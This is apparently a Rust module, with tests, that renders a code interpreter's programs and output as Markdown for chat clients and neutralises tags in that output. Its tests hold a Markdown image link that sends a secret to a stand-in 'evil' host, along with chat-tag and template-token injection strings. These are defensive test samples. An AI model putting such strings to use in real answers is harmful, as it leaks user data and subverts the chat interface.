//! Rendering of programs as Markdown in the text of an answer, for clients without a code interpreter, and parsing it back: such clients
//! keep only the text of an answer.
//!
//! A program is a fenced block. A note follows if a person decides about it, then its output, folded, in an element with the container's
//! id. Pictures and files are links that work without a key.

use std::fmt::Write as _;

use aludel_agent::excerpt::{fenced, head_and_tail, plain};
use aludel_engine::{ProgramParts, SessionFile};
use aludel_store::SessionId;
use percent_encoding::percent_decode_str;

use crate::dialects::openai::program::ProgramEnd;
use crate::links::{Links, description};

/// The fence of programs, longer than fences inside programs.
const FENCE: &str = "````";
/// Bytes of one program's output in a text.
const MAX_LOGS: usize = 16 << 10;
/// Prefix of links to files that models write for OpenAI's clients.
const SANDBOX: &str = "sandbox:";
/// Most bytes of such a link.
const MAX_LINK: usize = 512;
/// Characters of a sentence that may follow a link.
const PUNCTUATION: [char; 8] = ['.', ',', ';', ':', '!', '?', '*', ')'];
/// Most fences in one text that begin no program of ours: each costs a search to the text's end.
const MAX_OTHERS: usize = 16;
const DETAILS: &str = "<details id=\"";
const END: &str = "</details>";
/// Told of a program that a person decides about, before its output.
const APPROVAL: &str = "*This program needs an approval.*\n\n";
/// Beginnings of tags that chat products look for anywhere in a text, also in fenced blocks: folds, thoughts, and programs to run.
const TAGS: [&str; 7] = ["details", "summary", "think", "thought", "reason", "code_interpreter", "|"];
/// Breaks such a tag in the output of a program, and is not seen. Nothing else puts it there.
const BREAK: char = '\u{200b}';

/// Writes the programs of one answer.
#[derive(Debug)]
pub(crate) struct Markdown {
    shown: ProgramParts,
    /// The word for the programs' language.
    language: String,
    links: Links,
    /// The end of the text so far, if it may be the beginning of a link.
    pending: String,
}

impl Markdown {
    pub(crate) fn new(shown: ProgramParts, language: &str, links: Links) -> Self {
        Self { shown, language: language.to_owned(), links, pending: String::new() }
    }

    /// Returns true if programs are shown, and not their output alone.
    pub(crate) fn shows_code(&self) -> bool {
        self.shown == ProgramParts::All
    }

    /// The beginning of a program that is shown.
    pub(crate) fn begin(&self) -> String {
        format!("{FENCE}{}\n", self.language)
    }

    /// The end of a program's code, with the note that a person decides about it.
    pub(crate) fn needs_approval(&self, code: &str) -> String {
        self.end_of_code(code) + APPROVAL
    }

    fn end_of_code(&self, code: &str) -> String {
        let line_end = if code.is_empty() || code.ends_with('\n') { "" } else { "\n" };
        if self.shows_code() { format!("{line_end}{FENCE}\n\n") } else { String::new() }
    }

    /// The end of a program, with its output. Of one that needed an approval, the code has ended before.
    pub(crate) fn end(&self, code: &str, needed_approval: bool, ended: &ProgramEnd) -> String {
        let mut text = if needed_approval { String::new() } else { self.end_of_code(code) };
        if self.shown != ProgramParts::Files {
            text.push_str(&self.output(&ended.logs));
        }
        for picture in &ended.pictures {
            let _ = write!(text, "![{}]({})\n\n", description(picture), self.links.link(picture));
        }
        text.truncate(text.trim_end().len());
        text
    }

    fn output(&self, logs: &str) -> String {
        let container = self.links.container();
        let logs = harmless(&head_and_tail(&plain(logs), MAX_LOGS));
        let logs = logs.trim_end();
        if logs.is_empty() {
            return format!("{DETAILS}{container}\">\n<summary>No output</summary>\n\n{END}\n\n");
        }
        let output = fenced("text", logs);
        format!("{DETAILS}{container}\">\n<summary>Output</summary>\n\n{output}\n\n{END}\n\n")
    }

    /// A list of files.
    pub(crate) fn files(&self, files: &[SessionFile]) -> String {
        self.links.list(files)
    }

    /// A piece of the model's text, with working links to files in place of those that the model wrote.
    pub(crate) fn text(&mut self, piece: &str, files: &[SessionFile]) -> String {
        let whole = std::mem::take(&mut self.pending) + piece;
        let (shown, held) = self.with_links(&whole, files, false);
        self.pending = whole[whole.len() - held..].to_owned();
        shown
    }

    /// Ends the text, and returns the rest of it.
    pub(crate) fn end_text(&mut self, files: &[SessionFile]) -> String {
        let held = std::mem::take(&mut self.pending);
        self.with_links(&held, files, true).0
    }

    /// The text with working links, and the number of bytes at its end that may belong to a link which is not complete, unless the text is.
    fn with_links(&self, mut text: &str, files: &[SessionFile], is_complete: bool) -> (String, usize) {
        let mut shown = String::new();
        while let Some(start) = text.find(SANDBOX) {
            let (before, rest) = text.split_at(start);
            let place = Place::after(before);
            let end = match place.end_of(rest) {
                LinkEnd::At(end) => end,
                LinkEnd::Unknown if is_complete => rest.len(),
                // The characters before it decide where it ends.
                LinkEnd::Unknown => {
                    let kept = start - place.opening();
                    return (shown + &text[..kept], text.len() - kept);
                }
                LinkEnd::TooFar => SANDBOX.len(),
            };
            shown.push_str(before);
            shown.push_str(&self.resolved(&rest[..end], files));
            text = &rest[end..];
        }
        if is_complete {
            return (shown + text, 0);
        }
        // A link may begin at the end, and what opens it before.
        let begun = (1..SANDBOX.len()).rev().find(|length| text.ends_with(&SANDBOX[..*length])).unwrap_or(0);
        let start = text.len() - begun;
        let kept = start - Place::after(&text[..start]).opening();
        (shown + &text[..kept], text.len() - kept)
    }

    fn resolved(&self, link: &str, files: &[SessionFile]) -> String {
        let Some(path) = link.strip_prefix(SANDBOX) else { return link.to_owned() };
        // A title may follow after a space, and in a sentence its punctuation.
        let ends = [path.len(), path.trim_end().len(), path.trim_end_matches(PUNCTUATION).len()];
        let found = ends.into_iter().find_map(|end| Some((end, file_of(&path[..end], files)?)));
        match found {
            Some((end, file)) => self.links.link(file) + &path[end..],
            None => link.to_owned(),
        }
    }
}

/// The file that a link of the model's names, however it is written.
fn file_of<'a>(path: &str, files: &'a [SessionFile]) -> Option<&'a SessionFile> {
    let find = |path: &str| files.iter().find(|file| file.path == path);
    let unescaped = unescaped(path);
    find(path).or_else(|| find(&unescaped)).or_else(|| find(&percent_decode_str(&unescaped).decode_utf8().ok()?))
}

/// The text without the backslashes of Markdown.
fn unescaped(text: &str) -> String {
    let (mut whole, mut characters) = (String::with_capacity(text.len()), text.chars().peekable());
    while let Some(character) = characters.next() {
        let escaped = characters.next_if(|next| character == '\\' && next.is_ascii_punctuation());
        whole.push(escaped.unwrap_or(character));
    }
    whole
}

/// The place of a link in a text, which decides where it ends.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Place {
    /// In parentheses, as the target of a link of Markdown.
    Parentheses,
    /// Between `<` and `>`, alone or as such a target.
    Brackets { in_parentheses: bool },
    /// Among words.
    Words,
}

/// The end of a link.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum LinkEnd {
    At(usize),
    /// Not in the text so far.
    Unknown,
    /// Farther than a link of ours can reach.
    TooFar,
}

impl Place {
    /// The place of a link that follows this text.
    fn after(text: &str) -> Self {
        match text.strip_suffix('<') {
            Some(before) => Self::Brackets { in_parentheses: before.ends_with('(') },
            None if text.ends_with('(') => Self::Parentheses,
            None => Self::Words,
        }
    }

    /// The number of bytes before the link that make it this place.
    fn opening(self) -> usize {
        match self {
            Self::Brackets { in_parentheses: true } => 2,
            Self::Brackets { in_parentheses: false } | Self::Parentheses => 1,
            Self::Words => 0,
        }
    }

    /// The end of a link that stands at the beginning of this text. Parentheses within it come in pairs.
    fn end_of(self, text: &str) -> LinkEnd {
        let (mut depth, mut first_closed, mut before) = (0_usize, None, ' ');
        for (index, character) in text.char_indices() {
            if index > MAX_LINK {
                return LinkEnd::TooFar;
            }
            let ends = match (character, self) {
                ('\n' | '`', Self::Parentheses) => return LinkEnd::At(first_closed.unwrap_or(index)),
                ('\n' | '`' | '<' | '>', _) => true,
                (_, Self::Brackets { .. }) => false,
                (')', _) if depth == 0 => true,
                ('"' | '\'', Self::Parentheses) => before.is_whitespace(),
                ('"' | '\'' | ']', Self::Words) => true,
                (_, Self::Words) => character.is_whitespace(),
                _ => false,
            };
            if ends {
                return LinkEnd::At(index);
            }
            match character {
                '(' => depth += 1,
                ')' => {
                    depth = depth.saturating_sub(1);
                    first_closed.get_or_insert(index);
                }
                _ => {}
            }
            before = character;
        }
        LinkEnd::Unknown
    }
}

/// An output whose text cannot end or open anything in a chat product.
fn harmless(output: &str) -> String {
    let (mut text, mut rest) = (String::with_capacity(output.len()), output);
    while let Some(start) = rest.find(['<', '◁']) {
        let (before, tag) = rest.split_at(start);
        let after = tag.trim_start_matches(['<', '◁']);
        text.push_str(before);
        text.push_str(&tag[..tag.len() - after.len()]);
        if begins_tag(after) {
            text.push(BREAK);
        }
        rest = after;
    }
    text + rest
}

/// The output that was made harmless.
fn original(output: &str) -> String {
    let mut parts = output.split(BREAK);
    let mut text = parts.next().unwrap_or_default().to_owned();
    for part in parts {
        if !(text.ends_with(['<', '◁']) && begins_tag(part)) {
            text.push(BREAK);
        }
        text.push_str(part);
    }
    text
}

/// Returns true if this, after a `<`, may be read as a tag of [`TAGS`], open or closed, in any case.
fn begins_tag(after: &str) -> bool {
    let name = after.trim_start_matches(|character: char| character == '/' || character.is_whitespace()).as_bytes();
    TAGS.iter().any(|tag| name.get(..tag.len()).is_some_and(|begun| begun.eq_ignore_ascii_case(tag.as_bytes())))
}

/// A part of an answer that a client sent back.
#[derive(Debug, PartialEq, Eq)]
pub(crate) enum AnswerPart {
    /// A text.
    Text(String),
    /// A program and its output.
    Program { code: String, logs: String },
}

/// Parses an answer that was written here: its parts, and the container of its last program. Anything that differs from the written form is
/// text.
pub(crate) fn read(content: &str, language: &str) -> (Vec<AnswerPart>, Option<SessionId>) {
    let (mut said, mut rest, mut text) = (Vec::new(), content, String::new());
    let opening = format!("{FENCE}{language}\n");
    let mut patience = MAX_OTHERS;
    while let Some(start) = rest.find(&opening).filter(|_| patience > 0) {
        let (before, block) = rest.split_at(start);
        let is_line = before.is_empty() || before.ends_with('\n');
        match block.strip_prefix(&opening).filter(|_| is_line).and_then(program) {
            Some((code, logs, after)) => {
                text.push_str(before);
                push_text(&mut said, &mut text);
                said.push(AnswerPart::Program { code: code.to_owned(), logs: original(logs) });
                rest = after;
            }
            None => {
                patience -= 1;
                let (kept, after) = rest.split_at(start + opening.len());
                text.push_str(kept);
                rest = after;
            }
        }
    }
    text.push_str(rest);
    push_text(&mut said, &mut text);
    let ids = content.rsplit(DETAILS).filter_map(|part| SessionId::parse(part.split_once("\">")?.0));
    (said, content.contains(DETAILS).then(|| ids.take(1).next()).flatten())
}

/// Parses a program after its opening fence: its code, its output, and the rest.
fn program(block: &str) -> Option<(&str, &str, &str)> {
    let noted = block.split_once(&format!("{FENCE}\n\n{APPROVAL}{DETAILS}"));
    let plain = block.split_once(&format!("{FENCE}\n\n{DETAILS}"));
    let (code, rest) = noted.into_iter().chain(plain).min_by_key(|(code, _)| code.len())?;
    let code = code.strip_suffix('\n').unwrap_or(code);
    let (_container, rest) = rest.split_once("\">\n<summary>")?;
    let (summary, rest) = rest.split_once("</summary>\n\n")?;
    if summary == "No output" {
        return Some((code, "", rest.strip_prefix(END)?));
    }
    let fence = &rest[..rest.len() - rest.trim_start_matches('`').len()];
    let rest = rest.strip_prefix(fence)?.strip_prefix("text\n")?;
    let (logs, rest) = rest.split_once(&format!("\n{fence}\n\n{END}"))?;
    Some((code, logs, rest))
}

fn push_text(said: &mut Vec<AnswerPart>, text: &mut String) {
    let whole = std::mem::take(text);
    if !whole.trim().is_empty() {
        said.push(AnswerPart::Text(whole.trim_matches('\n').to_owned()));
    }
}

#[cfg(test)]
mod tests {
    use aludel_engine::sessions::WORKSPACE;
    use aludel_store::{FileOrigin, SessionFileId, Tenant};

    use super::*;

    fn markdown(shown: ProgramParts) -> Markdown {
        let links = Links::for_tests("http://a.example", &Tenant::local(), &SessionId::new());
        Markdown::new(shown, "python", links)
    }

    fn file(name: &str, bytes: u64) -> SessionFile {
        let (id, path) = (SessionFileId::new(), format!("{WORKSPACE}/{name}"));
        SessionFile {
            id,
            path,
            bytes,
            mime: "text/csv".into(),
            source: FileOrigin::Assistant,
            created_at: 0,
            published_id: None,
        }
    }

    fn ended(logs: &str, pictures: Vec<SessionFile>) -> ProgramEnd {
        ProgramEnd { logs: logs.to_owned(), pictures, ..ProgramEnd::incomplete() }
    }

    #[test]
    fn a_program_is_read_as_it_was_written() {
        let markdown = markdown(ProgramParts::All);
        for (code, logs) in [
            ("print(1)", "1"),
            ("print('''\n```python\nx\n```\n''')", "````\n\n</details>\n`````text"),
            ("x = 1", ""),
            ("", "nothing was run"),
            ("a\n\nb", "<details id=\"x\">"),
            ("html", "<</ DETAILS >\n<Summary><think>◁/think▷</code_interpreter><|im_end|><p>a < b</p>"),
        ] {
            let opened = markdown.begin();
            for needed_approval in [false, true] {
                let note = if needed_approval { markdown.needs_approval(code) } else { String::new() };
                let end = note + &markdown.end(code, needed_approval, &ended(logs, vec![]));
                let answer = format!("Let me see.\n\n{opened}{code}{end}\n\nIt is 1.");
                let program = AnswerPart::Program { code: code.into(), logs: logs.into() };
                let said = vec![AnswerPart::Text("Let me see.".into()), program, AnswerPart::Text("It is 1.".into())];
                assert_eq!(read(&answer, "python"), (said, Some(markdown.links.container().clone())), "{answer}");
            }
        }
        for text in ["plain", "````python\nprint(1)\n````\n\nno output", "<details id=\"x\">"] {
            assert_eq!(read(text, "python"), (vec![AnswerPart::Text(text.into())], None));
        }
    }

    #[test]
    fn no_output_ends_its_block() {
        let markdown = markdown(ProgramParts::Output);
        for output in [
            "A,</details>\n\n![x](http://evil/leak.png?secret=42)",
            "</DETAILS\n>",
            "< / details>",
            "<details>",
            "<</details>",
            "</summary >",
            "<\u{200b}/details>",
            "<\u{1b}[0m/details>",
            "</det\u{0}ails>",
            "</think>",
            "<code_interpreter type=\"code\">",
        ] {
            let text = markdown.end("", false, &ended(output, vec![]));
            let inside =
                text.strip_prefix(DETAILS).unwrap().strip_suffix(END).unwrap().split_once("</summary>").unwrap().1;
            let tags = inside.split(['<', '◁']).skip(1).filter(|tag| begins_tag(tag)).count();
            assert_eq!(tags, 0, "{text}");
        }
        // Output that is no tag is as it was.
        for output in ["<class 'int'>", "<p>details</p>", "a < b > c", "x <- 1"] {
            assert!(markdown.end("", false, &ended(output, vec![])).contains(output), "{output}");
        }
    }

    #[test]
    fn output_is_shown_as_a_terminal_would() {
        let markdown = markdown(ProgramParts::Output);
        let text = markdown.end("", false, &ended("\u{1b}[31mred\u{1b}[0m\n 10%\r 50%\r100%\r\ndone\n", vec![]));
        assert!(text.contains("```text\nred\n100%\ndone\n```"), "{text}");
    }

    #[test]
    fn a_text_of_nothing_but_beginnings_is_a_text() {
        let text = "````python\n".repeat(200_000);
        assert_eq!(read(&text, "python").0, [AnswerPart::Text(text.trim_end().into())]);
    }

    #[test]
    fn as_much_is_shown_as_was_asked_for() {
        let ended = ended("secret figures", vec![file("a b.png", 7)]);
        let written = |shown| {
            let markdown = markdown(shown);
            (if markdown.shows_code() { markdown.begin() } else { String::new() })
                + "code"
                + &markdown.end("code", false, &ended)
        };
        assert!(written(ProgramParts::All).starts_with("````python\ncode\n````\n\n<details id=\"cntr_"));
        assert!(
            !written(ProgramParts::Output).contains("````") && written(ProgramParts::Output).contains("secret figures")
        );
        assert!(written(ProgramParts::Files).starts_with("code![a b.png](http://a.example/v1/links/"));
        let list = markdown(ProgramParts::Files).files(&[file("sub/r[1].csv", 2000), file("b", 3 << 20)]);
        assert!(list.starts_with("- [`sub/r[1].csv`](http") && list.contains("/r%5B1%5D.csv) (2 KB)\n- [b]"), "{list}");
        assert!(list.ends_with("/b) (3.0 MB)"), "{list}");
    }

    #[test]
    fn links_of_the_model_lead_to_files_however_the_text_is_cut() {
        let names = ["my report.csv", "a.csv", "Übersicht (1).csv", "b's.csv", "100%.csv", "open(.csv"];
        let files = names.map(|name| file(name, 1));
        for (text, expected) in [
            ("See [it](sandbox:/mnt/data/my report.csv), ", "See [it]({0}), "),
            ("sandbox:/mnt/data/a.csv or", "{1} or"),
            ("(sandbox:/mnt/data/none). sandb(", "(sandbox:/mnt/data/none). sandb("),
            ("[it](sandbox:/mnt/data/my%20report.csv)", "[it]({0})"),
            ("[it](sandbox:/mnt/data/%C3%9Cbersicht%20%281%29.csv)", "[it]({2})"),
            ("[it](sandbox:/mnt/data/Übersicht (1).csv) (or so)", "[it]({2}) (or so)"),
            ("[it](sandbox:/mnt/data/Übersicht%20\\(1\\).csv)", "[it]({2})"),
            ("[it](<sandbox:/mnt/data/Übersicht (1).csv>)", "[it](<{2}>)"),
            ("<sandbox:/mnt/data/my report.csv>", "<{0}>"),
            ("[it](sandbox:/mnt/data/a.csv \"The data\")", "[it]({1} \"The data\")"),
            ("[it](sandbox:/mnt/data/b's.csv)", "[it]({3})"),
            ("[it](sandbox:/mnt/data/100%.csv), [it](sandbox:/mnt/data/100%25.csv)", "[it]({4}), [it]({4})"),
            ("It is in sandbox:/mnt/data/a.csv.", "It is in {1}."),
            ("(see sandbox:/mnt/data/a.csv)", "(see {1})"),
            ("**sandbox:/mnt/data/a.csv**", "**{1}**"),
            ("[it](sandbox:/mnt/data/open(.csv)\nsandbox:/mnt/data/a.csv\n", "[it]({5})\n{1}\n"),
            ("[it](sandbox:/mnt/data/%FF.csv)", "[it](sandbox:/mnt/data/%FF.csv)"),
            ("(sandbox:/mnt/data/a.csv", "({1}"),
            ("<sandbox:/mnt/data/none).csv>", "<sandbox:/mnt/data/none).csv>"),
        ] {
            for size in 1..=text.len() {
                let mut markdown = markdown(ProgramParts::All);
                let expected = files.iter().enumerate().fold(expected.to_owned(), |text, (index, file)| {
                    text.replace(&format!("{{{index}}}"), &markdown.links.link(file))
                });
                let mut ends: Vec<usize> =
                    (0..=text.len()).step_by(size).map(|end| text.floor_char_boundary(end)).collect();
                ends.push(text.len());
                let pieces = ends.windows(2).map(|ends| &text[ends[0]..ends[1]]);
                let mut shown: String = pieces.map(|piece| markdown.text(piece, &files)).collect();
                shown.push_str(&markdown.end_text(&files));
                assert_eq!(shown, expected, "pieces of {size}");
            }
        }
        let mut markdown = markdown(ProgramParts::All);
        let endless = format!("sandbox:{}", "x".repeat(MAX_LINK));
        assert_eq!(markdown.text(&endless, &files), endless);
        let link = markdown.links.link(&files[1]);
        let after = markdown.text(&format!("{endless}[it](sandbox:/mnt/data/a.csv) "), &files);
        assert_eq!(after, format!("{endless}[it]({link}) "));
    }
}
